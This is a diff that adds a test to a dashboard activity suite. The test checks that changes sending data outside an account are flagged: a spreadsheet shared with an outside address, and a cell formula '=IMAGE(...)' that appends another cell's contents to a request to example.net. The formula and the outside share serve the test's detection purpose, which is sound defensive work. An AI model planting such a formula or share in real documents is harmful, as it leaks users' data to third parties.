@@ -395,6 +395,34 @@ describe.skipIf(Boolean(missing))('Activity on the dashboard', { timeout: 120_00
     expect(await values()).toEqual([['new']]);
   });
 
+  it('marks what went outside the account (issue 37): a share outside, a fetch formula; not a share inside', async () => {
+    const { spreadsheetId } = (await tool('create_spreadsheet', { title: 'Outbound' })) as {
+      spreadsheetId: string;
+    };
+    await tool('share_file', { fileId: spreadsheetId, emailAddress: 'mallory@gmail.com', role: 'writer' });
+    await tool('share_file', { fileId: spreadsheetId, emailAddress: 'bob@example.com', role: 'reader' });
+    await tool('write_range', {
+      spreadsheetId,
+      range: 'A1',
+      values: [['=IMAGE("https://example.net/?"&B1)']],
+    });
+    // list_changes answers once the journal has every entry: the page then lists them all.
+    const summaries = (await listed(spreadsheetId)).map((change) => change.summary);
+    expect(summaries).toContain('shared with bob@example.com as reader');
+    const { page } = alice;
+    await page.goto(`${env.stack.baseUrl}/dashboard/activity?spreadsheet=${spreadsheetId}`);
+    const marks = (await page.locator('tbody tr strong.outbound').allTextContents()).map((text) =>
+      text.trim(),
+    );
+    expect(marks).toEqual(['outbound (fetches example.net)', 'outbound (to mallory@gmail.com)']);
+    const rows = await rowTexts(page);
+    expect(rows.find((text) => text.includes('mallory'))).toContain(
+      'outbound (to mallory@gmail.com): shared with mallory@gmail.com as writer',
+    );
+    expect(rows.find((text) => text.includes('bob@example.com'))).not.toContain('outbound');
+    await expectAccessibleInEveryLook(page, `/dashboard/activity?spreadsheet=${spreadsheetId}`);
+  });
+
   it('sends a signed-out browser to sign in', async () => {
     const stranger = await newPerson(env);
     try {
